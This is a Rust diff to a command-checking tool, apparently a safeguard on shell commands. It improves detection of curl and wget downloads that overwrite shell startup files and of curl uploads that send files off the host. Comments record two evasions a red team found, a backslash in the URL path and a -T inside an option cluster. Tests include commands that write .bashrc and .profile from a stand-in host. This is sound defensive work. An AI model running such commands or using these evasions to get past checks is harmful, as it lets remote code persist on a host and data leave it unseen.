@@ -1206,17 +1206,25 @@ fn names_from_urls(program: &str, args: &[String]) -> Vec<String> {
     if !named_by_url {
         return Vec::new();
     }
+    // curl names the file after the last `/` or `\` of the path, as written (red-team round
+    // 45: `-O 'http://h/x\.bashrc'` wrote `.bashrc`); wget after the last `/`, decoded. Both
+    // readings are given, so a rule sees each name the file may get.
+    let separators: &[char] = if program == "curl" { &['/', '\\'] } else { &['/'] };
     args.iter()
         .filter(|a| !a.starts_with('-') && a.contains("://"))
-        .map(|url| {
+        .flat_map(|url| {
             let path = url.split(['?', '#']).next().unwrap_or(url);
-            let last = path.rsplit('/').next().unwrap_or_default();
-            let last = percent_decoded(last).unwrap_or_else(|| last.to_string());
-            let last = if last.is_empty() { "index.html".to_string() } else { last };
-            match &dir {
-                Some(d) => format!("{}/{last}", d.trim_end_matches('/')),
-                None => last,
-            }
+            let last = path.rsplit(separators).next().unwrap_or_default();
+            let mut names = vec![last.to_string()];
+            names.extend(percent_decoded(last).filter(|d| d != last));
+            names
+                .into_iter()
+                .map(|last| if last.is_empty() { "index.html".to_string() } else { last })
+                .map(|last| match &dir {
+                    Some(d) => format!("{}/{last}", d.trim_end_matches('/')),
+                    None => last,
+                })
+                .collect::<Vec<_>>()
         })
         .collect()
 }
@@ -1371,7 +1379,7 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         // (`name@file` in `--data-urlencode`, `-H @file`, `--variable n@file`: any `@` outside a
         // URL; a protocol other than HTTP(S) sends stdin or a file: `telnet://`, `ftp://`, `smtp://`.)
         "curl" if has(&|a| {
-            a == "-T" || (a.starts_with("-T") && short_cluster(a).is_some()) || long(a, "--upload-file") || a.starts_with('<') || a.contains("=<")
+            short_given(a, &['T'], CURL_WITH_ARG) || long(a, "--upload-file") || a.starts_with('<') || a.contains("=<")
                 || (a.contains('@') && !a.contains("://"))
                 || a.split_once("://").is_some_and(|(scheme, _)| !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "file") && !scheme.starts_with('-'))
         }) => Some("curl sends a file's contents, or its input, off the host, which masking does not see"),
@@ -1440,6 +1448,25 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         }
         _ => None,
     }
+}
+
+/// curl's short options that take an argument (the rest of a cluster, or the next word).
+pub(crate) const CURL_WITH_ARG: &str = "AbcCdDeEFHKmoPQrtTuUwxXyYz";
+
+/// Whether the short-option word `a` gives one of `letters`, read as getopt reads a cluster:
+/// a letter of `with_arg` takes the rest of the word as its argument (`curl -sT FILE` gives
+/// `T`, red-team round 45; `-Oindex.html` gives no `e`).
+pub(crate) fn short_given(a: &str, letters: &[char], with_arg: &str) -> bool {
+    let Some(cluster) = short_cluster(a) else { return false };
+    for c in cluster.chars() {
+        if letters.contains(&c) {
+            return true;
+        }
+        if with_arg.contains(c) {
+            return false;
+        }
+    }
+    false
 }
 
 /// The letters of a short-option word (`-iS…` gives `iS…`), if it is one.
@@ -2176,6 +2203,9 @@ mod tests {
             ("wget http://x/.bash_login", ".bash_login"),
             ("wget -P /home/web 'http://x/a/%2ebashrc?x=1'", "/home/web/.bashrc"),
             ("curl -O http://x/.profile", ".profile"),
+            // Round 45: curl names the file after a backslash too, and does not decode it.
+            ("curl -sO 'http://x/y\\.bashrc'", ".bashrc"),
+            ("curl -O http://x/%2eprofile", ".profile"),
         ] {
             assert!(read_line(line).paths.contains(&path.to_string()), "{line}: {:?}", read_line(line));
         }
